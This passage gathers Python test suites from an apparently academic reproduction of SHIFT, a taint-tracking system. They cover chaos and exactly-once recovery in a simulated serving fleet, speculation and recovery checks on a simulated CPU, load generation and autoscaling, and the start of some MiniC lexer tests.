        assert sorted(e.worker for e in sched.crashes) == ["w0", "w0", "w1"]

    def test_event_validation(self):
        with pytest.raises(ValueError):
            ChaosEvent(time=1.0, kind="meteor", worker="w0")
        with pytest.raises(ValueError):
            ChaosEvent(time=1.0, kind="stall", worker="w0", duration=0.0)
        with pytest.raises(ValueError):
            ChaosSchedule(corrupt_rate=0.7, drop_rate=0.6)

    def test_transmit_is_stateless_per_attempt(self):
        sched = ChaosSchedule(seed=11, corrupt_rate=0.4, drop_rate=0.2)
        frame = TaggedMessage(payload=b"response").to_bytes()
        for request in range(20):
            for attempt in range(4):
                first = sched.transmit(frame, request, attempt)
                again = sched.transmit(frame, request, attempt)
                assert first == again

    def test_corruption_is_crc_detectable(self):
        sched = ChaosSchedule(seed=2, corrupt_rate=1.0)
        frame = TaggedMessage(payload=b"response").to_bytes()
        damaged = sched.transmit(frame, 0, 0)
        assert damaged is not None and damaged != frame
        with pytest.raises(WireFormatError):
            TaggedMessage.from_bytes(damaged)

    def test_drop_returns_none(self):
        sched = ChaosSchedule(seed=2, drop_rate=1.0)
        frame = TaggedMessage(payload=b"response").to_bytes()
        assert sched.transmit(frame, 0, 0) is None

    def test_wire_attempts_matches_transmit(self):
        sched = ChaosSchedule(seed=9, corrupt_rate=0.3, drop_rate=0.2)
        frame = TaggedMessage(payload=b"r").to_bytes()
        for request in range(30):
            failed = sched.wire_attempts(request, limit=6)
            for attempt in range(failed):
                assert sched.transmit(frame, request, attempt) != frame
            if failed <= 6:
                assert sched.transmit(frame, request, failed) == frame


class TestRequestJournal:
    def test_exactly_once_happy_path(self):
        journal = RequestJournal()
        for i in range(3):
            assert journal.admit(i, "w0")
        assert journal.open_count == 3
        for i in range(3):
            assert journal.complete(i, "served")
        assert journal.open_count == 0
        assert journal.exactly_once
        assert journal.duplicates == 0

    def test_duplicate_completion_is_suppressed(self):
        journal = RequestJournal()
        journal.admit(0, "w0")
        assert journal.complete(0, "served")
        assert not journal.complete(0, "served")
        assert journal.duplicates == 1
        assert journal.completed == 1
        assert journal.outcome(0) == "served"

    def test_completion_without_admission_raises(self):
        journal = RequestJournal()
        with pytest.raises(KeyError):
            journal.complete(42, "served")

    def test_reassign_skips_completed(self):
        journal = RequestJournal()
        for i in range(4):
            journal.admit(i, "w0")
        journal.complete(1, "served")
        moved = journal.reassign([0, 1, 2], "w1")
        assert moved == [0, 2]
        assert journal.open_for("w1") == [0, 2]
        assert journal.open_for("w0") == [3]
        assert journal.owner(0) == "w1"

    def test_open_ids_ordering(self):
        journal = RequestJournal()
        for i in (5, 1, 9):
            journal.admit(i, "w0")
        journal.complete(1, "served")
        assert journal.open_ids() == [5, 9]


class TestJournalProperties:
    """Arbitrary crash points and interleavings: exactly-once always."""

    @settings(max_examples=60, deadline=None)
    @given(
        n=st.integers(min_value=1, max_value=24),
        crash_points=st.lists(st.integers(min_value=0, max_value=23),
                              max_size=4),
        interleave=st.randoms(use_true_random=False),
        granularity=st.sampled_from([1, 8]),
    )
    def test_crash_replay_never_loses_or_duplicates(
            self, n, crash_points, interleave, granularity):
        journal = RequestJournal()
        payloads = {i: b"req-%d" % i for i in range(n)}
        tags = {i: pack_flags([i % 2 == 0] * len(payloads[i]))
                for i in range(n)}
        expected = {i: (payloads[i], tags[i], granularity)
                    for i in range(n)}
        for i in range(n):
            journal.admit(i, "w0")

        # Each crash point moves the still-open tail to a fresh worker;
        # dead incarnations still deliver their (duplicate) completions.
        deliveries = []
        incarnation = 0
        for point in sorted(set(p for p in crash_points if p < n)):
            for i in journal.open_for(f"w{incarnation}"):
                if i <= point:
                    deliveries.append((i, f"w{incarnation}"))
            survivors = [i for i in journal.open_ids() if i > point]
            incarnation += 1
            journal.reassign(survivors, f"w{incarnation}")
        for i in journal.open_ids():
            deliveries.append((i, journal.owner(i)))
        # Zombies re-deliver everything they ever started.
        for point in crash_points:
            if point < n:
                deliveries.append((point, "zombie"))
        interleave.shuffle(deliveries)

        outcomes = {}
        for index, worker in deliveries:
            payload, packed, gran = expected[index]
            outcome = "served:%s:%s:%d" % (
                payload.decode(), packed.hex(), gran)
            if journal.complete(index, outcome):
                outcomes[index] = outcome

        assert journal.open_count == 0
        assert journal.completed == n
        assert journal.exactly_once
        assert len(outcomes) == n
        # The authoritative outcome is payload- and tag-faithful no
        # matter which worker won the race.
        for i in range(n):
            assert journal.outcome(i) == "served:%s:%s:%d" % (
                payloads[i].decode(), tags[i].hex(), granularity)
        assert journal.duplicates == len(deliveries) - n


class TestReplicaStore:
    def test_latest_wins_and_stale_refused(self):
        store = ReplicaStore()
        assert store.store(Replica(worker="w0", watermark=3, evidence=1,
                                   time=10.0))
        assert store.store(Replica(worker="w0", watermark=7, evidence=2,
                                   time=20.0))
        assert not store.store(Replica(worker="w0", watermark=7,
                                       evidence=2, time=30.0))
        assert store.latest("w0").watermark == 7
        assert store.stored == 2
        assert store.stale == 1

    def test_drop_and_missing(self):
        store = ReplicaStore()
        store.store(Replica(worker="w0", watermark=0, evidence=0, time=1.0))
        store.drop("w0")
        assert store.latest("w0") is None
        assert store.latest("w9") is None

    def test_bytes_shipped_counts_blobs(self):
        store = ReplicaStore()
        store.store(Replica(worker="w0", watermark=1, evidence=0,
                            time=1.0, blob=b"x" * 100))
        store.store(Replica(worker="w0", watermark=2, evidence=0,
                            time=2.0, blob=b"x" * 150))
        assert store.bytes_shipped == 250

    def test_recovery_policy_validation(self):
        with pytest.raises(ValueError):
            RecoveryPolicy(heartbeat_interval=0.0)
        with pytest.raises(ValueError):
            RecoveryPolicy(miss_threshold=0)
        assert RecoveryPolicy(heartbeat_interval=100.0,
                              miss_threshold=3).detection_cycles == 300.0


class TestFrontendChaos:
    def test_shed_limit_rejects_explicitly(self):
        frontend = FleetFrontend(["w0"], shed_limit=2)
        assert frontend.submit(b"a") == "w0"
        assert frontend.submit(b"b") == "w0"
        assert frontend.submit(b"c") is None
        assert frontend.rejected == 1
        with pytest.raises(ValueError):
            FleetFrontend(["w0"], shed_limit=0)

    def test_receive_frame_clean_passthrough(self):
        frontend = FleetFrontend(["w0"])
        frame = TaggedMessage(payload=b"ok", request_id=4).to_bytes()
        message, backoff = frontend.receive_frame(lambda attempt: frame)
        assert message.payload == b"ok"
        assert backoff == 0.0
        assert frontend.retransmits == 0

    def test_receive_frame_retransmits_through_damage(self):
        frontend = FleetFrontend(["w0"])
        frame = TaggedMessage(payload=b"ok").to_bytes()
        damaged = bytearray(frame)
        damaged[-1] ^= 0x01
        attempts = [bytes(damaged), None, frame]
        message, backoff = frontend.receive_frame(
            lambda attempt: attempts[attempt],
            retry=RetryPolicy(limit=4, backoff_base=10.0,
                              backoff_factor=2.0))
        assert message.payload == b"ok"
        assert frontend.frame_rejects == 1
        assert frontend.frames_lost == 1
        assert frontend.retransmits == 2
        assert backoff == 10.0 + 20.0

    def test_receive_frame_exhausts_budget(self):
        frontend = FleetFrontend(["w0"])
        with pytest.raises(WireFormatError):
            frontend.receive_frame(lambda attempt: None,
                                   retry=RetryPolicy(limit=2))
        assert frontend.frames_lost == 3


class TestChaosSim:
    def test_crash_recovers_and_completes_everything(self):
        chaos = ChaosSchedule([
            ChaosEvent(time=120.0, kind="crash", worker="w0"),
        ], seed=1)
        result = chaos_sim(chaos).run(steady_requests(8))
        journal = result.journal.to_dict()
        assert journal["exactly_once"] and journal["open"] == 0
        assert journal["completed"] == 8
        assert result.dropped == 0
        assert len(result.recoveries) == 1
        recovery = result.recoveries[0]
        assert recovery["worker"] == "w0"
        assert recovery["cause"] == "crash"
        assert recovery["replacement"] == "w2"
        # detection (3 * 10) + boot (50) + rehydrate if a replica exists
        assert recovery["recovery_latency"] in (80.0, 88.0)
        assert any(e["action"] == "recover" for e in result.scale_events)

    def test_crash_outcome_matches_uncrashed_control(self):
        workload = steady_requests(10)
        chaos = ChaosSchedule([
            ChaosEvent(time=130.0, kind="crash", worker="w1"),
        ], seed=1)
        control = chaos_sim(None).run(workload)
        result = chaos_sim(chaos).run(workload)
        assert result.outcome_digest() == control.outcome_digest()
        assert result.digest() != control.digest()  # timing did change

    def test_chaos_run_is_bit_reproducible(self):
        chaos = ChaosSchedule([
            ChaosEvent(time=120.0, kind="crash", worker="w0"),
            ChaosEvent(time=260.0, kind="stall", worker="w1",
                       duration=500.0),
        ], seed=5, corrupt_rate=0.2, drop_rate=0.1)
        a = chaos_sim(chaos).run(steady_requests(12))
        b = chaos_sim(chaos).run(steady_requests(12))
        assert a.digest() == b.digest()

    def test_short_stall_is_not_declared_dead(self):
        chaos = ChaosSchedule([
            ChaosEvent(time=120.0, kind="stall", worker="w0",
                       duration=20.0),  # < detection_cycles (30)
        ], seed=1)
        result = chaos_sim(chaos).run(steady_requests(6))
        assert result.recoveries == []
        assert result.journal.to_dict()["exactly_once"]

    def test_zombie_duplicate_is_suppressed(self):
        # One worker, stalled mid-request far past the detector: it is
        # declared dead, replaced, then wakes and finishes anyway.
        chaos = ChaosSchedule([
            ChaosEvent(time=120.0, kind="stall", worker="w0",
                       duration=400.0),
        ], seed=1)
        result = chaos_sim(chaos, workers=1).run(steady_requests(6))
        journal = result.journal.to_dict()
        assert len(result.recoveries) == 1
        assert result.recoveries[0]["cause"] == "stall"
        assert journal["duplicates_suppressed"] >= 1
        assert journal["exactly_once"] and journal["open"] == 0

    def test_admission_shedding_drops_nothing_silently(self):
        burst = [ServeRequest(index=i, session=i, arrival=float(i),
                              payload=b"GET /x") for i in range(12)]
        result = chaos_sim(ChaosSchedule(seed=1), shed_limit=3).run(burst)
        journal = result.journal.to_dict()
        assert result.shed > 0
        assert result.dropped == 0
        assert result.frontend.rejected == result.shed
        assert journal["completed"] == journal["admitted"]
        rejected = [r for r in result.records if r.outcome == "rejected"]
        assert len(rejected) == result.shed

    def test_wire_chaos_retransmits_and_preserves_outcomes(self):
        workload = steady_requests(15)
        chaos = ChaosSchedule(seed=4, corrupt_rate=0.25, drop_rate=0.15)
        control = chaos_sim(None).run(workload)
        result = chaos_sim(chaos).run(workload)
        assert result.frontend.retransmits > 0
        assert (result.frontend.frame_rejects
                + result.frontend.frames_lost) > 0
        assert result.outcome_digest() == control.outcome_digest()
        assert result.journal.to_dict()["exactly_once"]

    def test_replication_banks_watermarks(self):
        chaos = ChaosSchedule([
            ChaosEvent(time=520.0, kind="crash", worker="w0"),
        ], seed=1)
        result = chaos_sim(chaos).run(steady_requests(12))
        assert result.replica_store is not None
        assert result.replica_store.stored > 0
        assert result.recoveries[0]["watermark"] >= 0

    def test_chaos_metrics_are_exposed(self):
        chaos = ChaosSchedule([
            ChaosEvent(time=120.0, kind="crash", worker="w0"),
        ], seed=1, corrupt_rate=0.2)
        result = chaos_sim(chaos).run(steady_requests(10))
        rendered = result.metrics().render()
        for name in ("serve.crashes", "serve.recoveries", "serve.replayed",
                     "serve.duplicates_suppressed", "serve.journal_open",
                     "fleet.retransmits", "fleet.frame_rejects"):
            assert name in rendered

    def test_chaos_free_run_reports_no_chaos_blocks(self):
        result = ServeSim(workers=2, seed=3, routing="round_robin",
                          service_model=StubModel()).run(steady_requests(5))
        report = result.to_report()
        assert "chaos" not in report
        assert "replication" not in report
        assert report["journal"]["exactly_once"]


class TestMigrateWatermark:
    def test_pack_worker_carries_watermark(self):
        machine = build_worker(FleetConfig(sizes=(1,)), "wm-test")
        blob = pack_worker(machine, watermark=17, reason="replicate")
        assert blob_watermark(blob) == 17

    def test_watermark_defaults_to_minus_one(self):
        machine = build_worker(FleetConfig(sizes=(1,)), "wm-default")
        blob = pack_worker(machine)
        assert blob_watermark(blob) == -1


class TestSupervisedFleet:
    @pytest.mark.slow
    def test_real_sigkill_recovery_is_exactly_once(self):
        from repro.fleet import FleetDriver

        chaos = ChaosSchedule(directives={
            "w0": WorkerChaos(crash_after=1),
        }, seed=0)
        driver = FleetDriver(FleetConfig(sizes=(1,)), workers=2, seed=0,
                             routing="round_robin")
        requests = [b"GET /static/p%d.html" % i for i in range(6)]
        report = driver.run_supervised(requests, chaos=chaos)
        journal = report["journal"]
        assert journal["exactly_once"] and journal["open"] == 0
        assert report["completed"] == 6
        assert report["shed"] == 0
        crashes = [r for r in report["recoveries"] if r["cause"] == "crash"]
        assert len(crashes) == 1
        assert crashes[0]["worker"] == "w0"
        assert crashes[0]["replacement"].startswith("w")
