"""Combining SHIFT with control speculation (paper section 3.3.4).

SHIFT repurposes the deferred-exception token, but compiled code can
still use control speculation: on speculation "failure" — whether the
NaT came from a genuine deferred exception or from taint — ``chk.s``
redirects to recovery code that re-executes the work non-speculatively.
A taint-induced recovery is a false positive for the *speculation*
(wasted work) but never corrupts results, and the non-speculative
recovery path is instrumented normally so taint is preserved.
"""

from repro.cpu import CPU, NaTConsumptionFault
from repro.isa import assemble
from repro.mem import REGION_DATA, SparseMemory, make_address

DATA = make_address(REGION_DATA, 0x1000)
BAD = 1 << 60  # unimplemented address: ld8.s defers the exception

EXIT = "break 0x100000"


def run(text, setup=None):
    program = assemble(text)
    memory = SparseMemory()

    def exit_syscall(cpu):
        cpu.halted = True
        cpu.exit_code = cpu.read_gr(32)

    cpu = CPU(program, memory, syscall_handler=exit_syscall)
    if setup:
        setup(cpu)
    cpu.run(max_instructions=100_000)
    return cpu


class TestClassicControlSpeculation:
    """The paper's Figure 2 pattern: a load hoisted above its branch."""

    def test_speculation_succeeds_on_valid_address(self):
        cpu = run(f"""
        func main:
            movl r13 = {DATA}
            movl r20 = 7
            st8 [r13] = r20
            // speculatively hoisted load (would sit before the branch)
            ld8.s r14 = [r13]
            and r15 = r14, 8
            // original home of the load: check the token
            chk.s r15, recovery
        next:
            mov r32 = r15
            {EXIT}
        recovery:
            // non-speculative re-execution
            ld8 r14 = [r13]
            and r15 = r14, 8
            br next
        endfunc
        """)
        assert cpu.exit_code == 0  # 7 & 8

    def test_speculation_failure_runs_recovery(self):
        cpu = run(f"""
        func main:
            movl r13 = {BAD}
            ld8.s r14 = [r13]
            and r15 = r14, 8
            chk.s r15, recovery
        next:
            mov r32 = r15
            {EXIT}
        recovery:
            movl r13 = {DATA}
            movl r20 = 12
            st8 [r13] = r20
            ld8 r14 = [r13]
            and r15 = r14, 8
            br next
        endfunc
        """)
        assert cpu.exit_code == 8  # 12 & 8 via the recovery path

    def test_deferred_exception_does_not_fault_until_consumed(self):
        # The speculative load itself must not raise: the exception is
        # deferred into the NaT bit (that is the whole mechanism).
        cpu = run(f"""
        func main:
            movl r13 = {BAD}
            ld8.s r14 = [r13]
            mov r32 = r0
            {EXIT}
        endfunc
        """)
        assert cpu.read_nat(14)


class TestTaintTriggersRecovery:
    """Tainted data entering a speculated region redirects to recovery —
    a speculation false positive, but correct execution (3.3.4)."""

    def test_tainted_operand_sends_execution_to_recovery(self):
        cpu = run(f"""
        func main:
            movl r13 = {DATA}
            movl r20 = 5
            st8 [r13] = r20
            ld8 r14 = [r13]
            settag r14            // taint (as SHIFT's bitmap check would)
            adds r15 = 1, r14     // speculated computation inherits it
            chk.s r15, recovery
        next:
            mov r32 = r15
            {EXIT}
        recovery:
            // non-speculative version: recompute, keep the NaT via the
            // normal tracking policy (spill/fill preserves it)
            movl r21 = 100
            adds r15 = 1, r14
            st8.spill [r13] = r15
            ld8.fill r15 = [r13]
            mov r32 = r21
            {EXIT}
        endfunc
        """)
        # Recovery executed (r32 == 100) and the recomputed value kept
        # its taint through the spill/fill pair.
        assert cpu.exit_code == 100
        assert cpu.read_nat(15)
        assert cpu.read_gr(15) == 6

    def test_untainted_value_stays_on_fast_path(self):
        cpu = run(f"""
        func main:
            movl r14 = 5
            adds r15 = 1, r14
            chk.s r15, recovery
        next:
            mov r32 = r15
            {EXIT}
        recovery:
            movl r32 = 100
            {EXIT}
        endfunc
        """)
        assert cpu.exit_code == 6

    def test_speculative_state_cannot_commit_through_store(self):
        """A NaT-tagged value cannot be committed with a plain store —
        exactly the guarantee that makes mis-speculation recoverable."""
        import pytest

        with pytest.raises(NaTConsumptionFault):
            run(f"""
            func main:
                movl r13 = {BAD}
                ld8.s r14 = [r13]
                movl r13 = {DATA}
                st8 [r13] = r14
                {EXIT}
            endfunc
            """)
