"""Serving subsystem: load generation, the simulated loop, autoscaling."""

import pytest

from repro.apps.webserver import make_request, traversal_request
from repro.compiler.instrument import ShiftOptions
from repro.fleet.driver import FleetConfig
from repro.serve import (
    ATTACK_KINDS,
    Autoscaler,
    AutoscalerConfig,
    LoadConfig,
    LoadPhase,
    ServeSim,
    ServiceCost,
    ServiceModel,
    SimClock,
    describe,
    generate,
    offered_duration,
    percentile,
    run_wallclock,
)


class StubModel:
    """A service model with scripted budgets — no Machines involved."""

    def __init__(self, cycles=100.0, boot=50.0, overrides=None):
        self.cycles = cycles
        self.boot_cycles = boot
        self.overrides = overrides or {}

    def cost(self, payload, tags=None):
        return self.overrides.get(
            bytes(payload), ServiceCost(cycles=self.cycles, outcome="served"))


def steady(offered=20.0, duration=1_000_000.0, **kw):
    return LoadConfig(seed=7, phases=[LoadPhase(duration, offered)], **kw)


class TestSimClock:
    def test_pop_advances_in_time_order(self):
        clock = SimClock()
        clock.schedule(30.0, "b")
        clock.schedule(10.0, "a")
        clock.schedule(20.0, "c")
        assert [clock.pop()[0] for _ in range(3)] == ["a", "c", "b"]
        assert clock.now == 30.0

    def test_ties_break_by_insertion_order(self):
        clock = SimClock()
        clock.schedule(5.0, "first")
        clock.schedule(5.0, "second")
        assert clock.pop()[0] == "first"
        assert clock.pop()[0] == "second"

    def test_cannot_schedule_into_the_past(self):
        clock = SimClock()
        clock.schedule(10.0, "x")
        clock.pop()
        with pytest.raises(ValueError):
            clock.schedule(5.0, "y")

    def test_percentile_nearest_rank(self):
        values = list(range(1, 101))
        assert percentile(values, 50.0) == 50
        assert percentile(values, 99.0) == 99
        assert percentile(values, 100.0) == 100
        assert percentile([], 50.0) == 0.0
        assert percentile([42.0], 99.0) == 42.0


class TestLoadgen:
    def test_same_config_is_bit_identical(self):
        assert generate(steady()) == generate(steady())

    def test_seed_changes_the_schedule(self):
        a = generate(steady())
        b = generate(LoadConfig(seed=8, phases=[LoadPhase(1e6, 20.0)]))
        assert [r.arrival for r in a] != [r.arrival for r in b]

    def test_arrivals_sorted_and_indexed(self):
        workload = generate(steady())
        arrivals = [r.arrival for r in workload]
        assert arrivals == sorted(arrivals)
        assert [r.index for r in workload] == list(range(len(workload)))

    def test_mean_offered_load_is_close(self):
        # Heavy-tailed gaps make any single seed noisy; the *mean*
        # rate over seeds must track the requested offered load.
        rates = []
        for seed in range(8):
            config = LoadConfig(
                seed=seed, phases=[LoadPhase(10_000_000.0, 20.0)])
            workload = generate(config)
            rates.append(len(workload) / (offered_duration(config) / 1e6))
        assert sum(rates) / len(rates) == pytest.approx(20.0, rel=0.2)

    def test_sessions_share_affinity_and_size(self):
        workload = generate(steady())
        by_session = {}
        for r in workload:
            by_session.setdefault(r.session, []).append(r)
        multi = [rs for rs in by_session.values() if len(rs) > 1]
        assert multi, "expected at least one keep-alive session"
        for rs in multi:
            assert len({r.affinity for r in rs}) == 1
            clean = [r.payload for r in rs if r.kind == "clean"]
            assert len(set(clean)) <= 1  # one resource per session

    def test_attack_sessions_end_with_the_attack(self):
        workload = generate(steady(attack_fraction=0.5,
                                   duration=2_000_000.0))
        attacks = [r for r in workload if r.kind != "clean"]
        assert attacks, "attack fraction 0.5 produced no attacks"
        assert {r.kind for r in attacks} <= set(ATTACK_KINDS)
        for attack in attacks:
            session = [r for r in workload if r.session == attack.session]
            assert max(session, key=lambda r: r.arrival) is attack

    def test_phases_shift_the_arrival_rate(self):
        config = LoadConfig(seed=3, phases=[
            LoadPhase(3_000_000.0, 30.0), LoadPhase(3_000_000.0, 5.0)])
        workload = generate(config)
        burst = sum(1 for r in workload if r.arrival < 3e6)
        taper = len(workload) - burst
        assert burst > 2 * taper

    def test_describe_summarises(self):
        workload = generate(steady())
        info = describe(workload)
        assert info["requests"] == len(workload)
        assert info["sessions"] == len({r.session for r in workload})
        assert info["attacks"] == 0

    def test_validation(self):
        with pytest.raises(ValueError):
            LoadConfig(phases=[])
        with pytest.raises(ValueError):
            LoadConfig(phases=[LoadPhase(-1.0, 10.0)])
        with pytest.raises(ValueError):
            LoadConfig(attack_fraction=1.5)
        with pytest.raises(ValueError):
            LoadConfig(sizes_kb=(4,), size_weights=(0.5, 0.5))


class TestAutoscaler:
    def test_scales_up_above_high_water(self):
        auto = Autoscaler(AutoscalerConfig(high_water=2.0, alpha=1.0))
        assert auto.observe(1.0, queued=10, routable=2) == "scale_up"

    def test_cooldown_blocks_consecutive_actions(self):
        auto = Autoscaler(AutoscalerConfig(high_water=2.0, alpha=1.0,
                                           cooldown_ticks=2))
        assert auto.observe(1.0, 10, 2) == "scale_up"
        assert auto.observe(2.0, 10, 3) is None
        assert auto.observe(3.0, 10, 3) is None
        assert auto.observe(4.0, 10, 3) == "scale_up"

    def test_drains_below_low_water_but_not_below_min(self):
        auto = Autoscaler(AutoscalerConfig(min_workers=2, low_water=0.5,
                                           alpha=1.0, cooldown_ticks=0))
        assert auto.observe(1.0, 0, 4) == "drain"
        assert auto.observe(2.0, 0, 2) is None  # at min_workers

    def test_never_exceeds_max_workers(self):
        auto = Autoscaler(AutoscalerConfig(max_workers=3, alpha=1.0,
                                           cooldown_ticks=0))
        assert auto.observe(1.0, 99, 3) is None

    def test_ewma_smooths_bursts(self):
        auto = Autoscaler(AutoscalerConfig(high_water=2.0, alpha=0.25))
        # One burst sample does not clear the smoothed threshold.
        assert auto.observe(1.0, 12, 2) is None
        assert auto.smoothed == pytest.approx(1.5)

    def test_validation(self):
        with pytest.raises(ValueError):
            AutoscalerConfig(min_workers=0)
        with pytest.raises(ValueError):
            AutoscalerConfig(high_water=1.0, low_water=1.0)
        with pytest.raises(ValueError):
            AutoscalerConfig(alpha=0.0)
        with pytest.raises(ValueError):
            AutoscalerConfig(interval=0.0)


class TestServeSim:
    def test_serves_everything_with_ordered_stamps(self):
        workload = generate(steady())
        sim = ServeSim(workers=2, seed=0, service_model=StubModel())
        result = sim.run(workload)
        assert result.served == len(workload)
        assert result.dropped == 0
        for record in result.records:
            assert record.enqueue <= record.dispatch <= record.complete
            assert record.latency == pytest.approx(
                record.queue_wait + record.service)

    def test_single_worker_queues_simultaneous_arrivals(self):
        from repro.serve import ServeRequest

        workload = [
            ServeRequest(index=0, session=0, arrival=10.0, payload=b"a"),
            ServeRequest(index=1, session=1, arrival=10.0, payload=b"b"),
        ]
        sim = ServeSim(workers=1, seed=0,
                       service_model=StubModel(cycles=100.0))
        result = sim.run(workload)
        first, second = result.records
        assert first.queue_wait == 0.0
        assert second.queue_wait == pytest.approx(100.0)
        assert second.complete == pytest.approx(210.0)

    def test_session_affinity_is_sticky(self):
        workload = generate(steady())
        result = ServeSim(workers=4, seed=1,
                          service_model=StubModel()).run(workload)
        by_session = {}
        for record in result.records:
            by_session.setdefault(record.session, set()).add(record.worker)
        assert all(len(ws) == 1 for ws in by_session.values())

    def test_digest_is_reproducible(self):
        workload = generate(steady())
        auto = AutoscalerConfig(min_workers=2, interval=10_000.0)
        run = lambda: ServeSim(workers=2, seed=0,
                               service_model=StubModel(),
                               autoscaler=auto).run(workload)
        assert run().digest() == run().digest()

    def test_bounded_queue_drops_overflow(self):
        workload = generate(steady(offered=80.0))
        sim = ServeSim(workers=1, seed=0, queue_capacity=2,
                       service_model=StubModel(cycles=500_000.0))
        result = sim.run(workload)
        assert result.dropped > 0
        assert result.dropped == sum(
            1 for r in result.records if r.outcome == "dropped")
        assert result.frontend.dropped == result.dropped

    def test_autoscaler_spawns_after_boot_and_retires_after_drain(self):
        config = LoadConfig(seed=2, phases=[
            LoadPhase(500_000.0, 60.0),     # burst far past 1 worker
            LoadPhase(2_000_000.0, 1.0),    # taper to nearly idle
        ])
        auto = AutoscalerConfig(min_workers=1, max_workers=4,
                                interval=20_000.0, cooldown_ticks=1)
        sim = ServeSim(workers=1, seed=0,
                       service_model=StubModel(cycles=120_000.0,
                                               boot=40_000.0),
                       autoscaler=auto)
        result = sim.run(generate(config))
        ups = [e for e in result.scale_events if e["action"] == "scale_up"]
        retires = [e for e in result.scale_events
                   if e["action"] == "retire"]
        assert ups and retires
        assert result.peak_workers > 1
        # A spawned worker's first dispatch waits out the boot budget.
        for event in ups:
            worker = result.workers[event["worker"]]
            first = [r.dispatch for r in result.records
                     if r.worker == event["worker"]]
            if first:
                assert min(first) >= worker.available_at
        # Retired workers drained: no dispatch after retirement.
        for event in retires:
            retired_at = result.workers[event["worker"]].retired_at
            assert retired_at is not None
            assert all(r.dispatch <= retired_at for r in result.records
                       if r.worker == event["worker"])

    def test_fatal_request_ejects_and_reroutes_identically(self):
        from repro.serve import ServeRequest

        poison = b"POISON"
        overrides = {poison: ServiceCost(cycles=50.0, outcome="fatal",
                                         error="boom")}
        model = StubModel(cycles=100.0, overrides=overrides)
        workload = [
            ServeRequest(index=0, session=1, arrival=0.0, payload=poison,
                         kind="overflow"),
            ServeRequest(index=1, session=1, arrival=1.0, payload=b"x"),
            ServeRequest(index=2, session=2, arrival=2.0, payload=b"y"),
        ]
        result = ServeSim(workers=2, seed=0,
                          service_model=model).run(workload)
        ejected = [w for w in result.workers.values() if w.ejected]
        assert len(ejected) == 1
        orphan = result.records[1]  # queued behind poison, same session
        assert orphan.rerouted
        assert orphan.outcome == "served"
        assert orphan.worker != ejected[0].worker_id
        assert result.rerouted >= 1
        # Re-routing does not change the serving outcome digest.
        rerun = ServeSim(workers=2, seed=0,
                         service_model=model).run(workload)
        assert rerun.digest() == result.digest()

    def test_metrics_registry_has_serve_and_frontend_counters(self):
        workload = generate(steady())
        result = ServeSim(workers=2, seed=0,
                          service_model=StubModel()).run(workload)
        flat = result.metrics().to_dict()
        assert flat["serve.requests"] == len(workload)
        assert flat["serve.served"] == result.served
        assert flat["serve.latency.p99"] > 0
        assert flat["frontend.dropped"] == 0
        assert flat["frontend.workers_routable"] == 2

    def test_report_is_json_ready(self):
        import json

        workload = generate(steady(attack_fraction=0.3))
        overrides = {}
        for r in workload:
            if r.kind != "clean":
                overrides[r.payload] = ServiceCost(
                    cycles=60.0, outcome="quarantined", alerts=1)
        result = ServeSim(workers=2, seed=0,
                          service_model=StubModel(overrides=overrides)
                          ).run(workload)
        report = json.loads(json.dumps(result.to_report()))
        assert report["detection"]["detection_rate"] == 1.0
        assert report["false_alerts"] == 0
        assert report["quarantined"] == result.quarantined


class TestServiceModelReal:
    def test_budgets_are_measured_and_cached(self):
        model = ServiceModel(FleetConfig())
        assert model.boot_cycles > 0
        cost = model.cost(make_request(4))
        assert cost.outcome == "served"
        assert cost.cycles > 0
        assert cost.response_sha
        model.cost(make_request(4))
        assert model.measured == 1  # cached, not re-measured

    def test_attack_budget_and_detection_under_strict_config(self):
        model = ServiceModel(FleetConfig(
            variant="resil", options=ShiftOptions(granularity=1),
            recover_watchdog=2_000_000))
        attack = model.cost(traversal_request())
        assert attack.outcome == "quarantined"
        assert "H2" in attack.policy_ids
        # Rollback restores counters; the budget must still be real.
        assert attack.cycles > 1.0

    def test_end_to_end_attack_mix_detects_everything(self):
        model = ServiceModel(FleetConfig(
            variant="resil", options=ShiftOptions(granularity=1),
            sizes=(4,), recover_watchdog=2_000_000))
        workload = generate(LoadConfig(
            seed=11, phases=[LoadPhase(600_000.0, 25.0)],
            sizes_kb=(4,), size_weights=(1.0,), attack_fraction=0.5))
        result = ServeSim(workers=2, seed=0,
                          service_model=model).run(workload)
        detection = result.attack_detection()
        assert detection["attacks"] >= 1
        assert detection["detection_rate"] == 1.0
        assert result.false_alerts == 0


class TestWallclock:
    def test_small_run_completes_and_detects(self):
        from repro.serve import ServeRequest
        from repro.apps.webserver import overflow_request

        config = FleetConfig(variant="resil",
                             options=ShiftOptions(granularity=1),
                             sizes=(4,), recover_watchdog=2_000_000)
        workload = [
            ServeRequest(index=0, session=0, arrival=0.0,
                         payload=make_request(4)),
            ServeRequest(index=1, session=1, arrival=1_000.0,
                         payload=overflow_request(), kind="overflow"),
            ServeRequest(index=2, session=2, arrival=2_000.0,
                         payload=make_request(4)),
        ]
        report = run_wallclock(workload, config=config, workers=2,
                               seed=0, time_scale=1e9)
        assert report["completed"] == 3
        assert report["served"] == 2
        assert report["attacks"] == 1
        assert report["detected"] == 1
        assert report["false_alerts"] == 0
        assert report["wall_seconds"] > 0
