"""Lexer and parser tests for MiniC."""

import pytest

from repro.compiler import ast_nodes as ast
from repro.compiler.errors import CompileError
from repro.compiler.lexer import tokenize
from repro.compiler.parser import parse


class TestLexer:
    def test_keywords_and_idents(self):
        kinds = [t.kind for t in tokenize("int foo while whilex")]
        assert kinds == ["int", "ident", "while", "ident", "eof"]

    def test_numbers(self):
        tokens = tokenize("42 0x1f 0")
        assert [t.value for t in tokens[:-1]] == [42, 31, 0]

    def test_string_escapes(self):
        token = tokenize(r'"a\n\t\\\x41"')[0]
        assert token.value == "a\n\t\\A"

    def test_char_literal(self):
        token = tokenize("'z'")[0]
        assert token.kind == "charlit"
        assert token.value == ord("z")

    def test_char_escape(self):
        assert tokenize(r"'\n'")[0].value == 10

    def test_operators_longest_match(self):
        ops = [t.value for t in tokenize("a <<= b << c <= d") if t.kind == "op"]
        assert ops == ["<<=", "<<", "<="]

    def test_comments(self):
        tokens = tokenize("a // line\n/* block\nstill */ b")
        idents = [t.value for t in tokens if t.kind == "ident"]
        assert idents == ["a", "b"]

    def test_line_numbers(self):
        tokens = tokenize("a\nb\n  c")
        assert [t.line for t in tokens[:-1]] == [1, 2, 3]

    def test_bad_character(self):
        with pytest.raises(CompileError):
            tokenize("a @ b")

    def test_unterminated_string(self):
        with pytest.raises(CompileError):
            tokenize('"abc')


class TestParserTopLevel:
    def test_function_def(self):
